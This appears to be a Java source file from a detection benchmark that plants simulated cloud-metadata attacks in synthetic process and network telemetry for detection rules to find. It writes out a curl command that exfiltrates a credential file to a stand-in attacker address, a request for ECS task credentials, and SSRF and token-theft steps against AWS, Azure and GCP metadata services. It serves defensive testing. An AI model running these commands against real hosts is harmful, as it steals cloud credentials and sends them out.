package dev.eyas.bench.telemetry;

import java.util.List;

/// The attacks planted in the example hour: the four of the published page, and two that the
/// published query cannot see.
final class ExampleAttacks {
    private static final NetworkEvent.Remote METADATA =
            NetworkEvent.Remote.tcp(Technique.METADATA_ADDRESS, 80);

    private ExampleAttacks() {}

    /// Each finds its process events and its connections in different files.
    static List<Story> seen(ExampleFleet fleet) {
        return List.of(
                awsRole(fleet.story("AWS role credentials by curl", "web-7")),
                azureIdentity(fleet.story("Azure managed identity token by curl", "app-2")),
                pythonSsrf(fleet.story("SSRF simulated in Python", "build-2")),
                gcpToken(fleet.story("GCP service account token by curl", "batch-5")));
    }

    /// What only a better detection finds.
    static List<Story> unseen(ExampleFleet fleet) {
        return List.of(
                javaSsrf(fleet.story("SSRF through a Java shop, dual-stack socket", "api-3")),
                taskCredentials(fleet.story("ECS task credentials by curl", "ecs-12")));
    }

    private static Story awsRole(Story story) {
        Program master =
                Program.of(
                        "/usr/sbin/php-fpm8.3",
                        "php-fpm: master process (/etc/php/8.3/fpm/php-fpm.conf)",
                        Account.ROOT);
        RunningProcess service = story.start(story.first(), master, "10:02:11.204", 4203);
        Program pool = master.calledWith("php-fpm: pool www").as(Account.WEB);
        RunningProcess worker = story.start(service, pool, "10:02:11.690", 4210);
        List<Program> steps = Technique.AWS_ROLE.programs();
        RunningProcess list = story.start(worker, steps.get(0), "10:14:07.117", 4711);
        RunningProcess read = story.start(worker, steps.get(1), "10:14:09.695", 4713);
        Program send =
                steps.get(0)
                        .calledWith("curl -s --data-binary @/tmp/.c http://203.0.113.66/u?h=web-7");
        RunningProcess sent = story.start(worker, send, "10:14:15.302", 4716);
        return story.connect(list, "10:14:07.125", METADATA)
                .connect(read, "10:14:09.704", METADATA)
                .connect(sent, "10:14:15.371", NetworkEvent.Remote.tcp("203.0.113.66", 80))
                .inLanes(0, 3);
    }

    private static Story azureIdentity(Story story) {
        Account tomcat = Account.unix("tomcat", 997);
        Program server =
                Program.of(
                        "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
                        "/usr/lib/jvm/java-17-openjdk-amd64/bin/java -Djava.util.logging.config.file="
                                + "/opt/tomcat/conf/logging.properties -Xmx1024m -classpath"
                                + " /opt/tomcat/bin/bootstrap.jar:/opt/tomcat/bin/tomcat-juli.jar"
                                + " -Dcatalina.base=/opt/tomcat org.apache.catalina.startup.Bootstrap start",
                        tomcat);
        RunningProcess java = story.start(story.first(), server, "10:04:30.018", 3120);
        Program dash = Program.of("/usr/bin/dash", "/bin/sh", tomcat);
        RunningProcess shell = story.start(java, dash, "10:22:31.440", 5533);
        Program curl = Technique.AZURE_IDENTITY.programs().getFirst().as(tomcat);
        RunningProcess token = story.start(shell, curl, "10:22:40.256", 5540);
        return story.connect(token, "10:22:40.271", METADATA).inLanes(2, 5);
    }

    private static Story pythonSsrf(Story story) {
        Account ci = Account.unix("ci", 1001);
        Program session = Program.of("/usr/sbin/sshd", "sshd: ci [priv]", Account.ROOT);
        RunningProcess login = story.start(story.service("sshd"), session, "10:28:40.811", 7011);
        Program bash = Program.of("/usr/bin/bash", "-bash", ci);
        RunningProcess shell = story.start(login, bash, "10:28:42.090", 7040);
        Program inline = Technique.PYTHON_SSRF.programs().getFirst().as(ci);
        Program script = inline.calledWith("python3 /tmp/ssrf.py");
        RunningProcess first = story.start(shell, script, "10:31:52.338", 7102);
        RunningProcess second = story.start(shell, inline, "10:33:10.507", 7119);
        return story.connect(first, "10:31:52.461", METADATA)
                .connect(second, "10:33:10.622", METADATA)
                .inLanes(1, 4);
    }

    private static Story gcpToken(Story story) {
        Account jovyan = Account.unix("jovyan", 1000);
        Program notebook =
                Program.of(
                        "/usr/bin/python3.10",
                        "/usr/bin/python3 /usr/local/bin/jupyter-notebook --ip=0.0.0.0 --no-browser",
                        jovyan);
        RunningProcess server = story.start(story.first(), notebook, "10:20:05.660", 2288);
        Program bash = Program.of("/usr/bin/bash", "/bin/bash -l", jovyan);
        RunningProcess shell = story.start(server, bash, "10:36:20.115", 6007);
        Program curl = Technique.GCP_TOKEN.programs().getFirst().as(jovyan);
        RunningProcess token = story.start(shell, curl, "10:36:55.402", 6021);
        String name = Technique.METADATA_NAME;
        return story.lookUp(token, "10:36:55.409", name, Technique.METADATA_ADDRESS)
                .connect(token, "10:36:55.418", METADATA)
                .inLanes(4, 1);
    }

    private static Story javaSsrf(Story story) {
        Program shop =
                Program.of(
                        "/usr/lib/jvm/java-21-openjdk-amd64/bin/java",
                        "java -Xmx2g -Dspring.profiles.active=prod -jar shop.jar",
                        Account.unix("shop", 998));
        Program supervisor =
                Program.of(
                        "/usr/bin/python3.10",
                        "/usr/bin/python3 /usr/bin/supervisord -n -c /etc/supervisord.conf",
                        Account.ROOT);
        RunningProcess daemon = story.start(story.first(), supervisor, "10:01:28.804", 1971);
        Program dash = Program.of("/usr/bin/dash", "/bin/sh /opt/shop/run.sh", Account.ROOT);
        RunningProcess runner = story.start(daemon, dash, "10:01:29.377", 1980);
        RunningProcess java = story.start(runner, shop, "10:01:30.150", 1984);
        return story.connectDualStack(java, "10:40:19.733", METADATA).inLanes(3, 0);
    }

    private static Story taskCredentials(Story story) {
        Program curl = Technique.AWS_ROLE.programs().getFirst();
        RunningProcess shim = story.service("containerd-shim-runc-v2");
        Program dash = Program.of("/usr/bin/dash", "/bin/sh /app/entrypoint.sh", Account.ROOT);
        RunningProcess entry = story.start(shim, dash, "10:06:43.850", 3298);
        Program node = Program.of("/usr/local/bin/node", "node server.js", Account.ROOT);
        RunningProcess server = story.start(entry, node, "10:06:44.019", 3301);
        Program ask =
                curl.calledWith(
                                "curl -s http://169.254.170.2/v2/credentials/"
                                        + "7b1f0d52-9a3c-4e6f-8f64-2d0c5b6a9e11")
                        .as(Account.ROOT);
        RunningProcess theft = story.start(server, ask, "10:52:08.294", 3377);
        return story.connect(theft, "10:52:08.305", NetworkEvent.Remote.tcp("169.254.170.2", 80))
                .inLanes(5, 2);
    }
}
